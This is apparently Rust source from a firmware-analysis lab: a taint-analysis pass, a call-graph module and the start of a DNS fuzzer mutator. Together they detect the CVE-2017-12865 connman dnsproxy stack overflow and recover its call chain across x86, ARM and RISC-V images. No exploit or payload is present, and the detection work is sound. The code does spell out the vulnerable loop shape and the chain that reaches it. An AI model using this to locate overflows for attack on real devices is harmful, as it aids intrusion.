//! candidate sinks. Sources propagate **interprocedurally**: when a
//! source function passes a tainted argument at a call site (last push
//! on x86, `r0` on ARM), the callee joins the source set — which is how
//! taint walks the real CVE-2017-12865 chain `forward_dns_reply` →
//! `uncompress` → `parse_response` without `parse_response` being
//! configured by hand.
//!
//! A candidate store becomes a finding when it sits inside a loop none
//! of whose exits compare an *untainted* value against a constant —
//! i.e. the copy runs until attacker-controlled data says stop, the
//! exact shape of CVE-2017-12865's `get_name`. The bounds-checked 1.35
//! body adds a counter-vs-capacity exit, which is untainted-vs-constant,
//! so the same loop is classified bounded and the pass stays quiet.
//!
//! The pass also *consumes* call summaries (see [`crate::callgraph`]):
//! a call site whose callee is summarized as returning a statically
//! evident constant re-seeds the return register with that constant
//! instead of clobbering it to unknown.
//!
//! This is a may-taint analysis: joins prefer `Tainted`, and pointer
//! classes collapse to `Top` on conflict. Buffer capacities come from
//! [`TaintConfig`] frame metadata (the lab's stand-in for DWARF variable
//! info).

use std::collections::{BTreeSet, HashMap};

use cml_image::{Addr, Arch};
use cml_vm::{arm, riscv, x86, X86Reg};

use crate::callgraph::Summaries;
use crate::cfg::{BasicBlock, Cfg, Function, Op, Terminator};

/// Abstract value tracked per register.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Abs {
    /// Unknown.
    Top,
    /// A known constant (from an immediate move / register zeroing).
    Const(u32),
    /// Pointer into the tainted input (the DNS response).
    ArgPtr,
    /// Data derived from the tainted input.
    Tainted,
    /// Pointer into the current stack frame.
    StackPtr,
}

impl Abs {
    fn join(self, other: Abs) -> Abs {
        if self == other {
            self
        } else if self == Abs::Tainted || other == Abs::Tainted {
            Abs::Tainted
        } else {
            Abs::Top
        }
    }

    fn is_tainted(self) -> bool {
        matches!(self, Abs::Tainted | Abs::ArgPtr)
    }

    fn is_const(self) -> bool {
        matches!(self, Abs::Const(_))
    }

    /// Pointer arithmetic / increments preserve pointer and taint
    /// classes; a stale constant becomes unknown.
    fn after_arith(self) -> Abs {
        match self {
            Abs::ArgPtr | Abs::StackPtr | Abs::Tainted => self,
            Abs::Const(_) | Abs::Top => Abs::Top,
        }
    }
}

/// Per-program-point abstract state: 32 register slots (x86 uses the
/// low 8, ARM the low 16), the class pair of the last flag-setting
/// comparison (on RISC-V, of the last conditional branch — there is no
/// separate compare), and the class of the most recent push (the
/// outgoing x86 call argument).
#[derive(Debug, Clone, PartialEq)]
struct State {
    regs: [Abs; 32],
    flags: (Abs, Abs),
    last_push: Abs,
}

impl State {
    fn entry(arch: Arch, is_source: bool) -> State {
        let mut regs = [Abs::Top; 32];
        match arch {
            Arch::X86 => {
                regs[X86Reg::Esp.bits() as usize] = Abs::StackPtr;
            }
            Arch::Armv7 => {
                regs[13] = Abs::StackPtr;
                if is_source {
                    regs[0] = Abs::ArgPtr;
                }
            }
            Arch::Riscv => {
                regs[0] = Abs::Const(0); // x0 is hardwired
                regs[2] = Abs::StackPtr;
                if is_source {
                    regs[10] = Abs::ArgPtr; // a0
                }
            }
        }
        State {
            regs,
            flags: (Abs::Top, Abs::Top),
            last_push: Abs::Top,
        }
    }

    /// Joins `other` in; returns whether anything widened.
    fn join_with(&mut self, other: &State) -> bool {
        let mut changed = false;
        for i in 0..32 {
            let j = self.regs[i].join(other.regs[i]);
            if j != self.regs[i] {
                self.regs[i] = j;
                changed = true;
            }
        }
        let f = (
            self.flags.0.join(other.flags.0),
            self.flags.1.join(other.flags.1),
        );
        if f != self.flags {
            self.flags = f;
            changed = true;
        }
        let p = self.last_push.join(other.last_push);
        if p != self.last_push {
            self.last_push = p;
            changed = true;
        }
        changed
    }
}

/// A store of some abstract value through a stack-derived pointer.
#[derive(Debug, Clone, Copy)]
struct StackStore {
    addr: Addr,
    value: Abs,
}

/// Facts collected on the post-fixpoint pass.
#[derive(Debug, Default)]
struct Collected {
    /// Stores through stack-derived pointers.
    stores: Vec<StackStore>,
    /// Per-call-site outgoing first argument: (call insn addr, class).
    call_args: Vec<(Addr, Abs)>,
    /// Whether any store through any pointer class was seen.
    writes_mem: bool,
}

/// Source/sink configuration.
#[derive(Debug, Clone)]
pub struct TaintConfig {
    /// Functions whose arguments carry attacker-controlled bytes.
    /// Taint propagates from here down the call graph.
    pub sources: Vec<String>,
    /// Frame metadata: function name → stack-buffer capacity in bytes
    /// (the lab's stand-in for DWARF local-variable info).
    pub sink_capacities: Vec<(String, u32)>,
}

impl Default for TaintConfig {
    fn default() -> Self {
        TaintConfig {
            sources: vec![cml_connman::SYM_FORWARD_DNS_REPLY.to_string()],
            sink_capacities: vec![(
                cml_connman::SYM_PARSE_RESPONSE.to_string(),
                cml_connman::NAME_BUFFER_SIZE as u32,
            )],
        }
    }
}

/// One tainted, unbounded copy into a stack buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaintFinding {
    /// Function the flow lives in.
    pub function: String,
    /// Address of (one of) the offending store instruction(s).
    pub store_addr: Addr,
    /// Head of the unbounded copy loop.
    pub loop_head: Addr,
    /// Human-readable taint source.
    pub source: String,
    /// Human-readable sink description.
    pub sink: String,
    /// Sink buffer capacity in bytes (0 when unknown).
    pub capacity: u32,
}

/// Runs the taint pass over a recovered CFG, computing call summaries
/// on the fly. [`taint_pass_with`] accepts precomputed summaries.
pub fn taint_pass(cfg: &Cfg, config: &TaintConfig) -> Vec<TaintFinding> {
    taint_pass_with(cfg, config, &Summaries::compute(cfg))
}

/// [`taint_pass`] with precomputed call summaries.
pub fn taint_pass_with(
    cfg: &Cfg,
    config: &TaintConfig,
    summaries: &Summaries,
) -> Vec<TaintFinding> {
    let ret_consts = ret_const_sites(cfg, summaries);
    let sources = effective_sources(cfg, config);
    let mut findings = Vec::new();
    for f in &cfg.functions {
        let is_source = sources.contains(&f.name);
        findings.extend(findings_in(cfg.arch, f, is_source, config, &ret_consts));
    }
    findings
}

/// The transitive source set: configured sources plus every function
/// reached by a tainted first argument at a call site, to a fixpoint.
pub fn effective_sources(cfg: &Cfg, config: &TaintConfig) -> BTreeSet<String> {
    let callee_by_site: HashMap<Addr, &str> = cfg
        .call_edges
        .iter()
        .map(|e| (e.at, e.callee.as_str()))
        .collect();
    let mut sources: BTreeSet<String> = config.sources.iter().cloned().collect();
    let no_consts = HashMap::new();
    loop {
        let mut grew = false;
        for f in &cfg.functions {
            if !sources.contains(&f.name) {
                continue;
            }
            let collected = collect_function(cfg.arch, f, true, &no_consts);
            for (site, class) in &collected.call_args {
                if !class.is_tainted() {
                    continue;
                }
                if let Some(callee) = callee_by_site.get(site) {
                    grew |= sources.insert((*callee).to_string());
                }
            }
        }
        if !grew {
            return sources;
        }
    }
}

/// Per-function facts the call-summary computation needs, derived with
/// the same abstract interpreter the findings pass uses (arguments
/// assumed tainted, no summaries consumed).
#[derive(Debug, Clone, Default)]
pub(crate) struct FnProfile {
    /// Whether the body stores through any pointer.
    pub writes_mem: bool,
    /// Whether the body copies tainted data into the stack through a
    /// loop with no untainted bound, assuming its arguments are
    /// attacker-controlled.
    pub unbounded_copy: bool,
    /// The constant the function leaves in the return register on every
    /// `ret` path, when statically evident.
    pub returns_const: Option<u32>,
}

pub(crate) fn function_profile(arch: Arch, f: &Function) -> FnProfile {
    let no_consts = HashMap::new();
    let Some(fx) = fixpoint(arch, f, true, &no_consts) else {
        return FnProfile::default();
    };
    // Return-constant detection: every Return block must leave the
    // return register holding the same constant.
    let ret_reg = match arch {
        Arch::X86 => X86Reg::Eax.bits() as usize,
        Arch::Armv7 => 0,
        Arch::Riscv => 10, // a0
    };
    let mut returns_const = None;
    let mut consistent = true;
    for (i, b) in f.blocks.iter().enumerate() {
        if b.term != Terminator::Return {
            continue;
        }
        match fx.exit_states[i].as_ref().map(|s| s.regs[ret_reg]) {
            Some(Abs::Const(v)) => match returns_const {
                None => returns_const = Some(v),
                Some(prev) if prev == v => {}
                Some(_) => consistent = false,
            },
            _ => consistent = false,
        }
    }
    let writes_mem = fx.collected.writes_mem;
    FnProfile {
        writes_mem,
        unbounded_copy: !unbounded_stores(f, fx).is_empty(),
        returns_const: if consistent { returns_const } else { None },
    }
}

/// Call-site address → constant the callee returns, per the summaries.
fn ret_const_sites(cfg: &Cfg, summaries: &Summaries) -> HashMap<Addr, u32> {
    cfg.call_edges
        .iter()
        .filter_map(|e| {
            summaries
                .get(&e.callee)
                .and_then(|s| s.returns_const)
                .map(|v| (e.at, v))
        })
        .collect()
}

/// The fixpoint result of one function analysis.
struct Fixpoint {
    /// Post-state of every block (indexed like `f.blocks`).
    exit_states: Vec<Option<State>>,
    /// Facts collected on the final pass.
    collected: Collected,
}

fn fixpoint(
    arch: Arch,
    f: &Function,
    is_source: bool,
    ret_consts: &HashMap<Addr, u32>,
) -> Option<Fixpoint> {
    if f.blocks.is_empty() {
        return None;
    }
    let idx: HashMap<Addr, usize> = f
        .blocks
        .iter()
        .enumerate()
        .map(|(i, b)| (b.start, i))
        .collect();
    let n = f.blocks.len();

    // Fixed point over block input states.
    let mut inputs: Vec<Option<State>> = vec![None; n];
    inputs[0] = Some(State::entry(arch, is_source));
    loop {
        let mut changed = false;
        for i in 0..n {
            let Some(mut st) = inputs[i].clone() else {
                continue;
            };
            walk_block(&mut st, &f.blocks[i], is_source, ret_consts, None);
            for succ in &f.blocks[i].succs {
                let Some(&j) = idx.get(succ) else { continue };
                match &mut inputs[j] {
                    slot @ None => {
                        *slot = Some(st.clone());
                        changed = true;
                    }
                    Some(existing) => changed |= existing.join_with(&st),
                }
            }
        }
        if !changed {
            break;
        }
    }

    // Final pass: collect stores / call args and per-block exit states.
    let mut collected = Collected::default();
    let mut exit_states: Vec<Option<State>> = vec![None; n];
    for i in 0..n {
        let Some(mut st) = inputs[i].clone() else {
            continue;
        };
        walk_block(
            &mut st,
            &f.blocks[i],
            is_source,
            ret_consts,
            Some(&mut collected),
        );
        exit_states[i] = Some(st);
    }
    Some(Fixpoint {
        exit_states,
        collected,
    })
}

fn collect_function(
    arch: Arch,
    f: &Function,
    is_source: bool,
    ret_consts: &HashMap<Addr, u32>,
) -> Collected {
    fixpoint(arch, f, is_source, ret_consts)
        .map(|fx| fx.collected)
        .unwrap_or_default()
}

/// Tainted stores sitting in loops with no untainted bounding exit:
/// `(store addr, loop head)` pairs, one per loop.
fn unbounded_stores(f: &Function, fx: Fixpoint) -> Vec<(Addr, Addr)> {
    // Natural-loop approximation: a back edge `b -> h` (h ≤ b.start)
    // bounds the address range [h, b.end). Sufficient for the reducible
    // compiler-shaped loops these images contain.
    let loops: Vec<(Addr, Addr)> = f
        .blocks
        .iter()
        .flat_map(|b| {
            b.succs
                .iter()
                .filter(move |&&s| s <= b.start)
                .map(move |&s| (s, b.end))
        })
        .collect();
    let exit_flags: Vec<Option<(Abs, Abs)>> = fx
        .exit_states
        .iter()
        .map(|s| s.as_ref().map(|s| s.flags))
        .collect();

    let mut out = Vec::new();
    let mut seen: BTreeSet<(Addr, Addr)> = BTreeSet::new();
    for store in fx
        .collected
        .stores
        .iter()
        .filter(|s| s.value == Abs::Tainted)
    {
        for &(head, end) in &loops {
            let in_loop = store.addr >= head && store.addr < end;
            if !in_loop || !seen.insert((head, store.addr)) {
                continue;
            }
            if loop_has_bounding_exit(f, &exit_flags, head, end) {
                continue;
            }
            out.push((store.addr, head));
        }
    }
    // One finding per loop is enough signal; collapse duplicate stores.
    out.sort_by_key(|&(store, head)| (head, store));
    out.dedup_by_key(|&mut (_, head)| head);
    out
}

fn findings_in(
    arch: Arch,
    f: &Function,
    is_source: bool,
    config: &TaintConfig,
    ret_consts: &HashMap<Addr, u32>,
) -> Vec<TaintFinding> {
    let Some(fx) = fixpoint(arch, f, is_source, ret_consts) else {
        return Vec::new();
    };
    let capacity = config
        .sink_capacities
        .iter()
        .find(|(name, _)| name == &f.name)
        .map_or(0, |(_, c)| *c);
    unbounded_stores(f, fx)
        .into_iter()
        .map(|(store_addr, loop_head)| TaintFinding {
            function: f.name.clone(),
            store_addr,
            loop_head,
            source: format!("DNS response bytes ({} argument)", f.name),
            sink: if capacity > 0 {
                format!("{capacity}-byte stack name buffer")
            } else {
                "stack buffer (capacity unknown)".to_string()
            },
            capacity,
        })
        .collect()
}

/// Whether any conditional exit of the loop `[head, end)` compares an
/// untainted value against a constant — the signature of a capacity
/// check.
fn loop_has_bounding_exit(
    f: &Function,
    exit_flags: &[Option<(Abs, Abs)>],
    head: Addr,
    end: Addr,
) -> bool {
    let in_range = |a: Addr| a >= head && a < end;
    f.blocks.iter().enumerate().any(|(i, b)| {
        if !in_range(b.start) {
            return false;
        }
        let Terminator::Branch { taken, fall } = b.term else {
            return false;
        };
        if in_range(taken) && in_range(fall) {
            return false; // not an exit
        }
        let Some((l, r)) = exit_flags[i] else {
            return false;
        };
        !l.is_tainted() && !r.is_tainted() && (l.is_const() || r.is_const())
    })
}

fn walk_block(
    st: &mut State,
    b: &BasicBlock,
    is_source: bool,
    ret_consts: &HashMap<Addr, u32>,
    mut collect: Option<&mut Collected>,
) {
    for insn in &b.insns {
        match insn.op {
            Op::X86(i) => step_x86(
                st,
                &i,
                is_source,
                insn.addr,
                ret_consts,
                collect.as_deref_mut(),
            ),
            Op::Arm(i) => step_arm(st, &i, insn.addr, ret_consts, collect.as_deref_mut()),
            Op::Riscv(i) => step_riscv(st, &i, insn.addr, ret_consts, collect.as_deref_mut()),
        }
    }
}

fn step_x86(
    st: &mut State,
    i: &x86::Insn,
    is_source: bool,
    addr: Addr,
    ret_consts: &HashMap<Addr, u32>,
    collect: Option<&mut Collected>,
) {
    use x86::Insn as I;
    use x86::Operand as O;
    let r = |reg: X86Reg| reg.bits() as usize;
    match *i {
        I::MovRImm(d, v) => st.regs[r(d)] = Abs::Const(v),
        I::MovR8Imm(d, _) => st.regs[r(d)] = Abs::Top,
        I::MovRmR { dst, src } => match dst {
            O::Reg(d) => st.regs[r(d)] = st.regs[r(src)],
            O::Mem { base: Some(b), .. } => {
                if let Some(out) = collect {
                    out.writes_mem = true;
                    if st.regs[r(b)] == Abs::StackPtr {
                        out.stores.push(StackStore {
                            addr,
                            value: st.regs[r(src)],
                        });
                    }
                }
            }
            O::Mem { base: None, .. } => {}
        },
        I::MovRRm { dst, src } | I::Movzx8 { dst, src } => {
            st.regs[r(dst)] = load_class(st, src, is_source, &r);
        }
        I::Lea { dst, src } => {
            st.regs[r(dst)] = match src {
                O::Mem { base: Some(b), .. } => st.regs[r(b)].after_arith(),
                _ => Abs::Top,
            };
        }
        I::XorRmR {
            dst: O::Reg(d),
            src,
        } if d == src => st.regs[r(d)] = Abs::Const(0),
        I::XorRmR { dst: O::Reg(d), .. }
        | I::AndRmR { dst: O::Reg(d), .. }
        | I::OrRmR { dst: O::Reg(d), .. } => st.regs[r(d)] = Abs::Top,
        I::AddRmImm8 { dst: O::Reg(d), .. }
        | I::SubRmImm8 { dst: O::Reg(d), .. }
        | I::AddRmImm32 { dst: O::Reg(d), .. }
        | I::SubRmImm32 { dst: O::Reg(d), .. } => {
            st.regs[r(d)] = st.regs[r(d)].after_arith();
        }
        I::IncR(d) | I::DecR(d) => st.regs[r(d)] = st.regs[r(d)].after_arith(),
        I::ShlRImm8 { reg, .. } | I::ShrRImm8 { reg, .. } => st.regs[r(reg)] = Abs::Top,
        I::PushR(s) => st.last_push = st.regs[r(s)],
        I::PushImm(v) => st.last_push = Abs::Const(v),
        I::PopR(d) => st.regs[r(d)] = Abs::Top,
        I::XchgEaxR(d) => {
            let eax = r(X86Reg::Eax);
            st.regs.swap(eax, r(d));
        }
        I::TestRmR { dst, src } | I::CmpRmR { dst, src } => {
            st.flags = (load_class(st, dst, is_source, &r), st.regs[r(src)]);
        }
        I::CmpRmImm8 { dst, imm } => {
            st.flags = (
                load_class(st, dst, is_source, &r),
                Abs::Const(imm as i32 as u32),
            );
        }
        I::CmpRmImm32 { dst, imm } => {
            st.flags = (load_class(st, dst, is_source, &r), Abs::Const(imm));
        }
        I::CallRel32(_) | I::CallRm(_) => {
            if let Some(out) = collect {
                out.call_args.push((addr, st.last_push));
            }
            // Caller-saved registers are clobbered by the callee; a
            // summarized constant return re-seeds eax.
            for reg in [X86Reg::Eax, X86Reg::Ecx, X86Reg::Edx] {
                st.regs[r(reg)] = Abs::Top;
            }
            if let Some(&v) = ret_consts.get(&addr) {
                st.regs[r(X86Reg::Eax)] = Abs::Const(v);
            }
        }
        _ => {}
    }
}

/// The abstract value read through an operand: argument slots of a
/// source function yield [`Abs::ArgPtr`] (the DNS response pointer);
/// dereferencing a tainted pointer yields tainted data.
fn load_class(
    st: &State,
    operand: x86::Operand,
    is_source: bool,
    r: &impl Fn(X86Reg) -> usize,
) -> Abs {
    match operand {
        x86::Operand::Reg(s) => st.regs[r(s)],
        x86::Operand::Mem {
            base: Some(b),
            disp,
        } => match st.regs[r(b)] {
            Abs::StackPtr if is_source && disp >= 8 => Abs::ArgPtr,
            Abs::ArgPtr | Abs::Tainted => Abs::Tainted,
            _ => Abs::Top,
        },
        x86::Operand::Mem { base: None, .. } => Abs::Top,
    }
}

fn step_arm(
    st: &mut State,
    i: &arm::Insn,
    addr: Addr,
    ret_consts: &HashMap<Addr, u32>,
    collect: Option<&mut Collected>,
) {
    use arm::Insn as I;
    match *i {
        I::MovImm { rd, imm } => st.regs[rd as usize] = Abs::Const(imm),
        I::MvnImm { rd, .. } => st.regs[rd as usize] = Abs::Top,
        I::MovReg { rd, rm } => st.regs[rd as usize] = st.regs[rm as usize],
        I::AddImm { rd, rn, .. } | I::SubImm { rd, rn, .. } => {
            st.regs[rd as usize] = st.regs[rn as usize].after_arith();
        }
        I::OrrImm { rd, .. } | I::AndImm { rd, .. } | I::EorImm { rd, .. } => {
            st.regs[rd as usize] = Abs::Top;
        }
        I::LslImm { rd, .. } => st.regs[rd as usize] = Abs::Top,
        I::CmpImm { rn, imm } => st.flags = (st.regs[rn as usize], Abs::Const(imm)),
        I::Ldr { rd, rn, .. } | I::Ldrb { rd, rn, .. } => {
            st.regs[rd as usize] = match st.regs[rn as usize] {
                Abs::ArgPtr | Abs::Tainted => Abs::Tainted,
                _ => Abs::Top,
            };
        }
        I::Str { rd, rn, .. } | I::Strb { rd, rn, .. } => {
            if let Some(out) = collect {
                out.writes_mem = true;
                if st.regs[rn as usize] == Abs::StackPtr {
                    out.stores.push(StackStore {
                        addr,
                        value: st.regs[rd as usize],
                    });
                }
            }
        }
        I::Pop { list } => {
            for reg in arm::reg_list(list) {
                if reg != 15 && reg != 13 {
                    st.regs[reg as usize] = Abs::Top;
                }
            }
        }
        I::Bl { .. } | I::Blx { .. } => {
            if let Some(out) = collect {
                out.call_args.push((addr, st.regs[0]));
            }
            // AAPCS caller-saved registers; a summarized constant
            // return re-seeds r0.
            for reg in 0..4 {
                st.regs[reg] = Abs::Top;
            }
            if let Some(&v) = ret_consts.get(&addr) {
                st.regs[0] = Abs::Const(v);
            }
        }
        _ => {}
    }
}

fn step_riscv(
    st: &mut State,
    i: &riscv::Insn,
    addr: Addr,
    ret_consts: &HashMap<Addr, u32>,
    collect: Option<&mut Collected>,
) {
    use riscv::Insn as I;
    // x0 is hardwired to zero: writes to it are discarded.
    match *i {
        I::Lui { rd, imm } if rd != 0 => st.regs[rd as usize] = Abs::Const(imm),
        I::Auipc { rd, .. } if rd != 0 => st.regs[rd as usize] = Abs::Top,
        I::Addi { rd, rs1: 0, imm } if rd != 0 => {
            st.regs[rd as usize] = Abs::Const(imm as u32);
        }
        I::Addi { rd, rs1, .. } if rd != 0 => {
            st.regs[rd as usize] = st.regs[rs1 as usize].after_arith();
        }
        I::Andi { rd, .. } | I::Ori { rd, .. } | I::Xori { rd, .. } if rd != 0 => {
            st.regs[rd as usize] = Abs::Top;
        }
        I::Slli { rd, .. } | I::Srli { rd, .. } if rd != 0 => st.regs[rd as usize] = Abs::Top,
        I::Add { rd, rs1, rs2 } | I::Sub { rd, rs1, rs2 } if rd != 0 => {
            st.regs[rd as usize] = st.regs[rs1 as usize]
                .join(st.regs[rs2 as usize])
                .after_arith();
        }
        I::Lw { rd, rs1, .. } | I::Lbu { rd, rs1, .. } if rd != 0 => {
            st.regs[rd as usize] = match st.regs[rs1 as usize] {
                Abs::ArgPtr | Abs::Tainted => Abs::Tainted,
                _ => Abs::Top,
            };
        }
        I::Sw { rs2, rs1, .. } | I::Sb { rs2, rs1, .. } => {
            if let Some(out) = collect {
                out.writes_mem = true;
                if st.regs[rs1 as usize] == Abs::StackPtr {
                    out.stores.push(StackStore {
                        addr,
                        value: st.regs[rs2 as usize],
                    });
                }
            }
        }
        // No compare instruction: the conditional branch's own operand
        // classes stand in for flags.
        I::Beq { rs1, rs2, .. } | I::Bne { rs1, rs2, .. } => {
            st.flags = (st.regs[rs1 as usize], st.regs[rs2 as usize]);
        }
        I::Jal { rd: 1, .. } | I::Jalr { rd: 1, .. } => {
            if let Some(out) = collect {
                out.call_args.push((addr, st.regs[10]));
            }
            // Caller-saved registers (ra, t0-t6, a0-a7) are clobbered;
            // a summarized constant return re-seeds a0.
            for reg in [1usize, 5, 6, 7, 28, 29, 30, 31] {
                st.regs[reg] = Abs::Top;
            }
            for reg in 10..18 {
                st.regs[reg] = Abs::Top;
            }
            if let Some(&v) = ret_consts.get(&addr) {
                st.regs[10] = Abs::Const(v);
            }
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use cml_firmware::build_image_for;

    #[test]
    fn flags_vulnerable_quiet_on_patched() {
        for arch in Arch::ALL {
            let (vuln, _) = build_image_for(arch, 0, false);
            let findings = taint_pass(&cfg::recover(&vuln), &TaintConfig::default());
            assert_eq!(findings.len(), 1, "{arch}: expected exactly one finding");
            let f = &findings[0];
            assert_eq!(f.function, "parse_response", "{arch}");
            assert_eq!(f.capacity, 1024, "{arch}");
            assert!(f.source.contains("DNS response"), "{arch}");

            let (fixed, _) = build_image_for(arch, 0, true);
            let quiet = taint_pass(&cfg::recover(&fixed), &TaintConfig::default());
            assert!(
                quiet.is_empty(),
                "{arch}: patched body must be clean: {quiet:?}"
            );
        }
    }

    #[test]
    fn taint_reaches_parse_response_through_the_call_chain() {
        // The default source is forward_dns_reply; parse_response is
        // flagged only because taint walks the planted call chain.
        for arch in Arch::ALL {
            let (img, _) = build_image_for(arch, 0, false);
            let cfg = cfg::recover(&img);
            let sources = effective_sources(&cfg, &TaintConfig::default());
            for name in ["forward_dns_reply", "uncompress", "parse_response"] {
                assert!(sources.contains(name), "{arch}: {name} not tainted");
            }
            assert!(!sources.contains("daemon_loop"), "{arch}");
        }
    }

    #[test]
    fn non_source_functions_stay_untainted() {
        let (img, _) = build_image_for(Arch::X86, 0, false);
        let config = TaintConfig {
            sources: vec!["daemon_loop".to_string()],
            sink_capacities: Vec::new(),
        };
        assert!(taint_pass(&cfg::recover(&img), &config).is_empty());
    }
}
