//! Whole-image call graph and per-function call summaries.
//!
//! CFG recovery resolves direct call targets against the symbol table
//! ([`crate::cfg::CallEdge`]); this module organizes those edges into a
//! queryable graph and attaches a [`FnSummary`] to every recovered
//! function. Summaries are computed bottom-up from the per-function
//! taint profile (arguments assumed attacker-controlled), then closed
//! transitively: a function *may overflow* if its own body contains an
//! unbounded tainted copy or if it passes its argument to a callee that
//! may. The report layer uses `chain_to` to print the statically
//! recovered attack path `forward_dns_reply → uncompress →
//! parse_response` — the exact dnsproxy call chain of CVE-2017-12865.

use std::collections::{BTreeMap, BTreeSet, HashMap, VecDeque};

use crate::cfg::Cfg;
use crate::taint;

/// Static call summary for one recovered function.
#[derive(Debug, Clone, Default)]
pub struct FnSummary {
    /// The constant the function leaves in the return register on every
    /// return path, when statically evident (`uncompress` returns 0).
    pub returns_const: Option<u32>,
    /// Whether the body stores through any pointer.
    pub writes_mem: bool,
    /// Whether the body itself contains an unbounded tainted copy into
    /// its stack frame, assuming its arguments are attacker-controlled.
    pub unbounded_copy: bool,
    /// `unbounded_copy` closed over callees: true when this function or
    /// anything it (transitively) calls may overflow a stack buffer.
    pub may_overflow: bool,
}

/// Per-function summaries keyed by function name.
#[derive(Debug, Default)]
pub struct Summaries {
    map: BTreeMap<String, FnSummary>,
}

impl Summaries {
    /// Computes summaries for every function in `cfg`: a local taint
    /// profile per body, then a transitive closure of `may_overflow`
    /// over the call graph.
    pub fn compute(cfg: &Cfg) -> Summaries {
        let mut map = BTreeMap::new();
        for f in &cfg.functions {
            let p = taint::function_profile(cfg.arch, f);
            map.insert(
                f.name.clone(),
                FnSummary {
                    returns_const: p.returns_const,
                    writes_mem: p.writes_mem,
                    unbounded_copy: p.unbounded_copy,
                    may_overflow: p.unbounded_copy,
                },
            );
        }
        // Transitive closure: propagate may_overflow caller-ward.
        let graph = CallGraph::build(cfg);
        loop {
            let mut changed = false;
            for (caller, callees) in &graph.callees {
                let hot = callees
                    .iter()
                    .any(|c| map.get(c).is_some_and(|s| s.may_overflow));
                if hot {
                    if let Some(s) = map.get_mut(caller) {
                        if !s.may_overflow {
                            s.may_overflow = true;
                            changed = true;
                        }
                    }
                }
            }
            if !changed {
                return Summaries { map };
            }
        }
    }

    /// The summary for `name`, if the function was recovered.
    pub fn get(&self, name: &str) -> Option<&FnSummary> {
        self.map.get(name)
    }

    /// All summaries, sorted by function name.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &FnSummary)> {
        self.map.iter().map(|(k, v)| (k.as_str(), v))
    }
}

/// The image's direct-call graph, keyed by function name.
#[derive(Debug, Default)]
pub struct CallGraph {
    /// caller → sorted unique callees.
    pub callees: BTreeMap<String, Vec<String>>,
    /// callee → sorted unique callers.
    pub callers: BTreeMap<String, Vec<String>>,
}

impl CallGraph {
    /// Builds the graph from the CFG's resolved call edges.
    pub fn build(cfg: &Cfg) -> CallGraph {
        let mut callees: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        let mut callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
        for f in &cfg.functions {
            callees.entry(f.name.clone()).or_default();
        }
        for e in &cfg.call_edges {
            callees
                .entry(e.caller.clone())
                .or_default()
                .insert(e.callee.clone());
            callers
                .entry(e.callee.clone())
                .or_default()
                .insert(e.caller.clone());
        }
        let flat = |m: BTreeMap<String, BTreeSet<String>>| {
            m.into_iter()
                .map(|(k, v)| (k, v.into_iter().collect::<Vec<_>>()))
                .collect()
        };
        CallGraph {
            callees: flat(callees),
            callers: flat(callers),
        }
    }

    /// Functions nothing in the image calls — the graph's entry points.
    pub fn roots(&self) -> Vec<&str> {
        self.callees
            .keys()
            .filter(|name| !self.callers.contains_key(name.as_str()))
            .map(|s| s.as_str())
            .collect()
    }

    /// Shortest call chain from `from` to `to` (inclusive), if any.
    pub fn chain_to(&self, from: &str, to: &str) -> Option<Vec<String>> {
        let mut prev: HashMap<&str, &str> = HashMap::new();
        let mut queue: VecDeque<&str> = VecDeque::new();
        queue.push_back(from);
        while let Some(cur) = queue.pop_front() {
            if cur == to {
                let mut chain = vec![cur.to_string()];
                let mut walk = cur;
                while let Some(&p) = prev.get(walk) {
                    chain.push(p.to_string());
                    walk = p;
                }
                chain.reverse();
                return Some(chain);
            }
            for callee in self.callees.get(cur).into_iter().flatten() {
                if callee != from && !prev.contains_key(callee.as_str()) {
                    prev.insert(callee, cur);
                    queue.push_back(callee);
                }
            }
        }
        None
    }

    /// Total number of direct call edges.
    pub fn edge_count(&self) -> usize {
        self.callees.values().map(Vec::len).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg;
    use cml_firmware::build_image_for;
    use cml_image::Arch;

    #[test]
    fn recovers_the_dnsproxy_attack_chain() {
        for arch in Arch::ALL {
            let (img, _) = build_image_for(arch, 0, false);
            let graph = CallGraph::build(&cfg::recover(&img));
            let chain = graph
                .chain_to("forward_dns_reply", "parse_response")
                .unwrap_or_else(|| panic!("{arch}: no chain"));
            assert_eq!(
                chain,
                ["forward_dns_reply", "uncompress", "parse_response"],
                "{arch}"
            );
            assert!(
                graph.roots().contains(&"forward_dns_reply"),
                "{arch}: reply entry should be a call-graph root"
            );
        }
    }

    #[test]
    fn summaries_flag_the_overflow_and_the_constant_return() {
        for arch in Arch::ALL {
            let (img, _) = build_image_for(arch, 0, false);
            let cfg = cfg::recover(&img);
            let sums = Summaries::compute(&cfg);

            let parse = sums.get("parse_response").unwrap();
            assert!(parse.unbounded_copy, "{arch}");
            assert!(parse.writes_mem, "{arch}");

            let unc = sums.get("uncompress").unwrap();
            assert_eq!(unc.returns_const, Some(0), "{arch}: uncompress returns 0");
            assert!(!unc.unbounded_copy, "{arch}");
            assert!(unc.may_overflow, "{arch}: transitive via parse_response");

            let fwd = sums.get("forward_dns_reply").unwrap();
            assert!(fwd.may_overflow, "{arch}");

            // Patched image: nothing may overflow.
            let (fixed, _) = build_image_for(arch, 0, true);
            let fixed_sums = Summaries::compute(&cfg::recover(&fixed));
            assert!(
                fixed_sums.iter().all(|(_, s)| !s.may_overflow),
                "{arch}: patched image must be quiet"
            );
        }
    }
}
