//! Structure-aware DNS mutators.
//!
//! Every operator rewrites a base input into a caller-supplied scratch
//! buffer (a pooled [`cml_dns::WireBuf`]'s backing `Vec`), so the
//! steady-state mutation loop allocates nothing. The structured
//! operators understand just enough DNS to stay interesting — they walk
//! the question to find the answer name, then splice, extend, or bend
//! that label chain — and every one of them degrades gracefully to
//! havoc when a previous mutation has already mangled the framing.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Hard cap on mutated-input size, matching the proxy's own
/// [`cml_dns::MAX_PROXY_MESSAGE`] so the mutator never manufactures
/// packets the transport would have refused to carry.
pub const MAX_INPUT: usize = cml_dns::MAX_PROXY_MESSAGE;

/// Where the answer name lives in a (still well-framed) input, as
/// discovered by [`walk_answer_name`].
#[derive(Debug, Clone, Copy)]
struct AnswerName {
